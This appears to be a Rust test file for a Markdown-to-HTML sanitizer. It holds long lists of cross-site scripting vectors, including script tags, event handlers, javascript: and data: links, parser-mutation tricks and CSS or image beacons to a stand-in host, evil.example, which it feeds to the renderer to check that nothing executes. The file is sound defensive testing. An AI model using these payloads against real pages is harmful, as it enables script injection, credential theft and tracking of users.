//! Cards that try to run something, to load something, or to look like a part of the page.
//!
//! Each is rendered by itself, and again within a table's cell, a quote, a list and an open element: what is harmless at
//! the top of a text may not be so elsewhere.

use crate::safe;

/// Scripts, in every place where one may stand.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<script>alert(1)",
    "a <script>alert(1)</script> b",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script><!--\nalert(1)\n--></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<SCRIPT SRC=\"data:text/javascript,alert(1)\"></SCRIPT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><script>alert&#40;1)</script>",
    "# <script>alert(1)</script>",
    "[<script>alert(1)</script>](x)",
    "| <script>alert(1)</script> |\n|---|\n| <script>alert(1)</script> |",
    "- <script>alert(1)</script>",
    "> <script>\nalert(1)\n</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<div><script>alert(1)</script></div>",
    "<details><summary><script>alert(1)</script></summary></details>",
];

/// Handlers of events.
const HANDLERS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = alert(1)>",
    "<img src=x onerror\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src='x' alt='\" onerror=alert(1) \"'>",
    "<img src=x\u{0}onerror=alert(1)>",
    "<img src=x\u{c}onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href=x onclick=alert(1)>x</a>",
    "<p tabindex=1 onfocus=alert(1) autofocus>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div onwheel=alert(1) style='height:100vh'>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<a/onpointerenter=alert(1)>x",
];

/// Addresses that run something.
const ADDRESSES: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#x3A;alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](&#x6A&#x61;vascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](blob:https://x/y)",
    "[a](file:///etc/passwd)",
    "[a](view-source:javascript:alert(1))",
    "[a](feed:javascript:alert(1))",
    "[a](x:y) [b](about:blank) [c](chrome://settings)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\" \u{c} javascript:alert(1)\">x</a>",
    "<a href=\"&#14;  javascript:alert(1)\">x</a>",
    "<a href='jav\u{0}ascript:alert(1)'>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=\"//evil.example\">x</a> <a href=\"/\\evil.example\">x</a> <a href=\"\\\\evil.example\">x</a>",
    "<a href=\"/\t/evil.example\">x</a> <a href=\"https:evil.example\">x</a> <a href=\"///evil.example\">x</a>",
    "<a href=x target=_blank rel=opener ping=//evil.example download>x</a>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](data:text/html;base64,PHN2Zz4=) ![b](data:image/png;base64,\"onerror=alert(1))",
    "![a](data:image/png,%3Csvg%3E) ![b](data:image/png;charset=x;base64,AAAA)",
    "<img src=javascript:alert(1)> <img src=\"jav&#x09;ascript:alert(1)\"> <img src=vbscript:x>",
    "<video src=javascript:alert(1)> <audio src=data:text/html,x> <video poster=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote> <q cite=javascript:x>y</q> <del cite=javascript:x>y</del>",
];

/// What would ask somebody else, move the page, or change how it looks.
const PAGES: &[&str] = &[
    "![a](https://evil.example/pixel.png) ![b](//evil.example/p) ![c](http://evil.example)",
    "<img src=https://evil.example/p> <img srcset='https://evil.example/p 1x, x.png 2x' src=x.png sizes=1px>",
    "<picture><source srcset=//evil.example/p media=all><img src=x.png></picture>",
    "<img src=x.png lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example usemap=#m>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<body background=//evil.example bgcolor=red text=red>",
    "<video src=//evil.example/v poster=//evil.example/p><track src=//evil.example></video>",
    "<link rel=stylesheet href=//evil.example/x.css> <link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example';body{display:none}</style>",
    "<style>\n\n* { background: url(//evil.example) }\n\n</style>",
    "<p style='position:fixed;top:0;background:url(//evil.example)'>x</p>",
    "<b style=\"behavior:url(x)\" style='x:expression(alert(1))'>x</b>",
    "<p class='btn btn-go masthead'>x</p> <div class=skip>x</div> <span class='fl-l sr'>x</span>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'> <meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<base href=//evil.example/> [x](y)",
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:x>Go</button></form>",
    "<button form=f formaction=javascript:alert(1)>x</button> <input type=image src=x formaction=javascript:x>",
    "<iframe src=javascript:alert(1)></iframe> <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><param name=x value=y></object> <embed src=javascript:alert(1)>",
    "<applet code=x></applet> <frameset><frame src=javascript:alert(1)></frameset> <portal src=x>",
    "<isindex type=image src=x onerror=alert(1)> <bgsound src=//evil.example> <layer src=//evil.example></layer>",
    "<dialog open>x</dialog> <slot name=x></slot> <template><script>alert(1)</script></template>",
    "<div popover id=x>y</div> <button popovertarget=x>z</button>",
    "<div contenteditable draggable=true hidden inert accesskey=x dir=rtl lang=x translate=no is=x-y slot=z part=p nonce=n>x</div>",
    "<p role=alert aria-hidden=true aria-label=x tabindex=5 data-copy data-drop itemscope>x</p>",
    "<div role=region tabindex=0 aria-label=Account class=scroll>x</div>",
];

/// Names that would shadow what scripts of a page look for, or clash with its own.
const NAMES: &[&str] = &[
    "<a id=cookie name=x>y</a> <img name=getElementById src=x> <a id=body href=x>y</a>",
    "<p id=main>x</p> <p id=card->y</p> <p id='card-a'>z</p> <p id='a b\"c'>w</p> <p id=''>v</p>",
    "# main\n\n# main\n\n<h2 id=main>x</h2>\n\n<p id=main-1>y</p>\n\n# main",
    "# a\n# a\n# a-1\n<p id=a-2>x</p>\n\n# a",
    "# __proto__\n\n# constructor\n\n# \"><script>alert(1)</script>",
    "<hr id=slot-0> <wbr id=slot-0> <hr id='card-slot-0'> $x$ <hr id=\"slot-0\">",
    "`<hr id=\"slot-0\">` $x$ &lt;hr id=\"slot-0\"&gt; <abbr title='<hr id=\"slot-0\">'>x</abbr>",
    "[^1] <p id=fn-1>x</p> <a id=fnref-1-1>y</a>\n\n[^1]: z",
    "[x](#\"onclick=alert(1)) [y](#<script>) [z](#) [w](#%00%22)",
    "<form id=x></form><p form=x id=attributes>y</p><p id=parentNode>z</p>",
];

/// Where parsers disagree: what is text to one is an element to another.
const MUTATIONS: &[&str] = &[
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi><a href=\"javascript:alert(1)\">x</a></mi></math>",
    "<math href=javascript:alert(1)>x</math> <math><maction actiontype=statusline xlink:href=javascript:x>y",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><p title=\"</noembed><script>alert(1)</script>\">",
    "<title><p title=\"</title><script>alert(1)</script>\">",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
    "<textarea><p title=\"</textarea><script>alert(1)</script>\">",
    "<iframe><p title=\"</iframe><script>alert(1)</script>\">",
    "<plaintext><script>alert(1)</script>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<template><s><template><s><img src=x onerror=alert(1)></template></s></template>",
    "<table><a href=javascript:x><td><a onclick=alert(1)>y</table>",
    "<table><style><img title=\"</style><script>alert(1)</script>\"></table>",
    "<a><table><a onclick=x href=javascript:x>y<td></table></a>",
    "<b><p><b><p><b onclick=x></p></b></p></b>",
    "<p><p><p></p><svg><p></svg></p><script>alert(1)</script>",
    "<font color=red><p><font onclick=x><p>y</font></p></font>",
    "</p><script>alert(1)</script><p> </br onclick=x> </div></article></main><script>alert(1)</script>",
    "<html><head><script>alert(1)</script></head><body onload=x><frameset onload=y>",
];

/// Comments, sections and tags that are not well formed.
const MALFORMED: &[&str] = &[
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!-- -- ><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<![CDATA[<!--]]><img src=x onerror=alert(1)>-->",
    "<?xml version=\"1.0\"?><?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
    "<! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<? foo=\"><script>alert(1)</script>\">",
    "<a href=\"x\" title=\"never ends><script>alert(1)</script>",
    "<a href='x\"><script>alert(1)</script>",
    "<a <b onclick=alert(1)>x</b>",
    "<b <script>alert(1)</script>",
    "<img src=x onerror=alert(1)",
    "<div\n\nonclick=alert(1)>x",
    "<p =onclick=alert(1)> <p a=>b=onclick> <p '\"onclick=alert(1)>",
    "<\u{0}script>alert(1)</script> <scr\u{0}ipt>alert(1)</script> \u{ff1c}script\u{ff1e}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt; &#60;script&#62; &#x3c;b onclick=x&#x3e;",
    "\\<script>alert(1)\\</script> `<script>` ``<img src=x onerror=alert(1)>``",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// HTML where Markdown takes text.
const TEXTS: &[&str] = &[
    "![\"><script>alert(1)</script>](x.png)",
    "![a](x.png \"\\\" onerror=alert(1) b=\\\"\")",
    "![a](x.png '\"><script>alert(1)</script>')",
    "[a](x \"\\\"><img src=x onerror=alert(1)>\")",
    "[a](x\"onclick=alert(1)) [b](<x\"><script>>) [c](x&quot;onclick=alert&lpar;1&rpar;)",
    "[a](\"onmouseover=alert(1)//) ![a](\"onerror=alert(1)//)",
    "![a](<x.png\" onerror=\"alert(1)>)",
    "# \"><img src=x onerror=alert(1)>",
    "# [x](javascript:alert(1)) <a href=javascript:x>y</a>",
    "# a\n\n| <b onclick=x> |\n|:-:|\n| [x](javascript:y) <td onclick=z> |",
    "# \"><script>\n\n| a |\n|---|\n| b |",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~ <img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n~~~",
    "```html\n<script>alert(1)</script>\n</code></pre></div><b onclick=x>\n```",
    "```bash\n$ echo '</span><script>alert(1)</script>'\n# </code><img src=x onerror=y>\n```",
    "```py\n'''</code><script>alert(1)</script>'''\n```",
    "    <script>alert(1)</script>\n    </code></pre><img src=x onerror=alert(1)>",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "- [x] <b onclick=x>y</b>\n- [ ] <input type=checkbox onclick=x>",
    "[^\"><script>]\n\n[^\"><script>]: <b onclick=x>y</b>",
    "https://x.example/\"onclick=alert(1) http://x.example/<script> www.x.example/'><b onclick=x>",
    "a@b.example\"onclick=x javascript://x.example/%0aalert(1)",
    "[a]: <x\"onclick=y> '\"onclick=z'\n\n[a] ![a]",
    "$\"><script>alert(1)</script>$ $`<img src=x onerror=alert(1)>`$ $$</math><script>$$",
];

#[test]
fn nothing_runs() {
    let all = [SCRIPTS, HANDLERS, ADDRESSES, PAGES, NAMES, MUTATIONS, MALFORMED, TEXTS].concat();
    assert!(all.len() >= 80, "{}", all.len());
    for vector in all {
        safe(vector);
        safe(&format!("a {vector} b"));
        safe(&format!("# {}", vector.replace('\n', " ")));
        safe(&format!("> - {}", vector.replace('\n', "\n>   ")));
        safe(&format!("| a |\n|---|\n| {} |", vector.replace('\n', " ").replace('|', "\\|")));
        for open in [
            "<table>",
            "<table><td>",
            "<svg>",
            "<math><mtext>",
            "<a href=x>",
            "<p title=\"",
            "<!--",
            "<pre>",
            "<select>",
        ] {
            safe(&format!("{open}{vector}"));
            safe(&format!("{open}\n\n{vector}\n\nc"));
        }
    }
}

#[test]
fn what_is_harmless_stays() {
    // A corpus of nothing but attacks is passed by a renderer that shows nothing.
    for (source, kept) in [
        ("<b onclick=x>bold</b>", "<b>bold</b>"),
        ("<a href=javascript:x>text</a>", "<a>text</a>"),
        ("<svg><g></svg>after", "after"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("`<script>`", "<code>&lt;script&gt;</code>"),
        ("<form>field</form>", "field"),
        ("<p style=x class=y>p</p>", "<p>p</p>"),
        (
            "![alt](https://a.example/b.png)",
            "<a href=\"https://a.example/b.png\" rel=\"nofollow noopener\">alt</a>",
        ),
    ] {
        let html = safe(source).html;
        assert!(html.contains(kept), "{source}: {html}");
    }
}

#[test]
fn no_picture_leaves_the_repo() {
    for (address, path) in [
        ("../../../other/repo/x.png", "other/repo/x.png"),
        ("..%2f..%2fx.png", "x.png"),
        ("%2e%2e/x.png", "x.png"),
        (".//./a/../x.png", "x.png"),
        ("..\\\\..\\\\x.png", "x.png"),
        ("a/%2e%2e%2f%2e%2e%2f%2e%2e%2fx.png", "x.png"),
    ] {
        let html = safe(&format!("![]({address}) [a]({address})")).html;
        assert!(html.contains(&format!("src=\"/ada/birds/resolve/main/{path}\"")), "{address}: {html}");
        assert!(html.contains(&format!("href=\"/ada/birds/blob/main/{path}\"")), "{address}: {html}");
    }
    for nowhere in ["%00", "a%0ab", "%5c..%5cx", "%ff", "/x.png", "/-/x", "#x"] {
        let html = safe(&format!("![alt]({nowhere})")).html;
        assert_eq!(html.trim(), "<p>alt</p>", "{nowhere}");
    }
}
